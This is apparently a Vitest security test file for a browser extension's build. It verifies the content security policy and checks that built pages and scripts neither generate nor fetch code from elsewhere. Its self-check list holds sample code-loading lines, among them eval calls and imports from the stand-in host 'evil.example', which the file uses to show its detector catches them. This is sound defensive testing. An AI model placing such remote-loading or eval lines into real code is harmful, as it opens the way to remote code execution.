import { readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { parseAst } from 'vite';
import { describe, expect, it } from 'vitest';
import { BROWSERS, builtFiles, builtText } from './built.ts';

const ROOT = resolve(import.meta.dirname, '../..');
/** The files of every build that end so, with the browser each is for. */
const filesOf = (end: RegExp) =>
  BROWSERS.flatMap((browser) =>
    builtFiles(browser)
      .filter((file) => end.test(file))
      .map((file) => [browser, file] as const),
  );
const API = 'https://services.leadconnectorhq.com';

describe.each(BROWSERS)('the policy of our pages in %s', (browser) => {
  const manifest = JSON.parse(builtText('manifest.json', browser)) as {
    content_security_policy: Readonly<Record<string, string>>;
  };
  const policy = manifest.content_security_policy['extension_pages'] ?? '';
  const directives = new Map(
    policy.split(';').map((directive) => {
      const [name = '', ...sources] = directive.trim().split(/\s+/);
      return [name, sources];
    }),
  );

  it('allows what is in the package and the API, and nothing by default', () => {
    expect(Object.keys(manifest.content_security_policy)).toEqual(['extension_pages']);
    expect(Object.fromEntries(directives)).toEqual({
      'default-src': ["'none'"],
      'script-src': ["'self'"],
      'style-src': ["'self'"],
      'img-src': ["'self'"],
      'connect-src': ["'self'", API],
      'base-uri': ["'none'"],
      'form-action': ["'none'"],
      'object-src': ["'none'"],
    });
  });
});

describe('what is built', () => {
  it.each(filesOf(/\.html$/))(
    '%s: %s has no script of its own and none from elsewhere',
    (browser, file) => {
      const html = builtText(file, browser);
      const tags = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
      expect(tags.length).toBeGreaterThan(0);
      for (const [, attributes = '', body = ''] of tags) {
        expect(body.trim()).toBe('');
        expect(attributes).toMatch(/\ssrc="\/[^/"]/);
      }
      const loaded = [...html.matchAll(/\s(?:src|href|action|data)="([^"]*)"/g)].map(
        ([, to]) => to,
      );
      expect(loaded.filter((to) => !/^\/[^/]/.test(to ?? ''))).toEqual([]);
      expect(html).not.toMatch(/\son\w+=|\sstyle=|<style|javascript:|http-equiv/i);
    },
  );

  it.each(filesOf(/\.js$/))(
    '%s: %s makes no code of text and loads none from elsewhere',
    (browser, file) => {
      const script = builtText(file, browser);
      const { made, imported } = codeIn(script);
      expect(made).toEqual([]);
      expect(imported.filter((from) => !/^\.\/[\w.-]+\.js$/.test(from))).toEqual([]);
      expect(script.match(/document\.write|insertAdjacentHTML|data:text|blob:/g)).toBeNull();
    },
  );

  // Otherwise the tests above could not fail.
  it.each([
    'eval(text)',
    '(0,eval)(text)',
    'const F=Function;new F(text)',
    'globalThis.Function(text)',
    'setTimeout(`act()`,5)',
    'importScripts(address)',
    'import("https://evil.example/act.js")',
    'import(address)',
    'import"https://evil.example/act.js"',
    'export*from"//evil.example/act.js"',
  ])('is known to make or load code: %s', (script) => {
    const { made, imported } = codeIn(script);
    expect([...made, ...imported.filter((from) => !from.startsWith('./'))]).toHaveLength(1);
  });

  it('names no address on the web beyond these', () => {
    const named = filesOf(/\.(?:js|html|css)$/)
      .flatMap(([browser, file]) => [
        ...builtText(file, browser).matchAll(/\b(?:https?|wss?|ftp):\/\/[^\s"'`)\\/*]+/g),
      ])
      .map(([address]) => address)
      // An agency's own portal, whose host the person types; and the end of a sentence about it.
      .filter((address) => !/^https:\/\/(?:\$\{\w+\}|\.)$/.test(address));
    expect([...new Set(named)].toSorted()).toEqual([
      // Names of languages of markup, which nobody fetches.
      'http://www.w3.org',
      // The portal, to know its pages and to link to it.
      'https://app.leadwaycrm.com',
      'https://client-app-crm-settings.leadconnectorhq.com',
      // Stands for the origin where only the rest of an address matters.
      'https://portal.invalid',
      API,
    ]);
  });

  it('puts no text into a page as markup', () => {
    const sources = readdirSync(join(ROOT, 'components'), { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.tsx?$/.test(file))
      .map((file) => join(ROOT, 'components', file));
    const found = sources.filter((file) =>
      /dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML/.test(
        readFileSync(file, 'utf8'),
      ),
    );
    expect(sources.length).toBeGreaterThan(50);
    expect(found).toEqual([]);
  });
});

type Node = { readonly type: string; readonly [key: string]: unknown };

/** What a script makes code with, and where it loads some from; `?` where that is known only when it runs. */
function codeIn(script: string): { made: string[]; imported: string[] } {
  const made: string[] = [];
  const imported: string[] = [];
  const visit = (node: Node): void => {
    if (/^(Import|Export)\w*(Declaration|Expression)$/.test(node.type) && isNode(node['source'])) {
      imported.push(textOf(node['source']) ?? '?');
    }
    if (node.type === 'Identifier' && MAKERS.has(String(node['name']))) {
      made.push(String(node['name']));
    }
    if (
      node.type === 'CallExpression' &&
      isTimer(node['callee']) &&
      Array.isArray(node['arguments'])
    ) {
      const text = textOf(node['arguments'][0] as Node);
      if (text !== undefined) made.push(text);
    }
    for (const inner of Object.values(node).flat()) if (isNode(inner)) visit(inner);
  };
  visit(parseAst(script) as unknown as Node);
  return { made, imported };
}

const MAKERS = new Set(['eval', 'Function', 'importScripts', 'execScript']);

function isNode(value: unknown): value is Node {
  return typeof value === 'object' && value !== null && 'type' in value;
}

function isTimer(callee: unknown): boolean {
  return isNode(callee) && /^set(Timeout|Interval)$/.test(String(callee['name']));
}

/** A text as it stands, also between backticks. */
function textOf(node: Node): string | undefined {
  if (node.type === 'Literal' && typeof node['value'] === 'string') return node['value'];
  if (node.type !== 'TemplateLiteral') return undefined;
  const [only, ...others] = node['quasis'] as { value: { cooked: string } }[];
  return others.length === 0 ? only?.value.cooked : undefined;
}
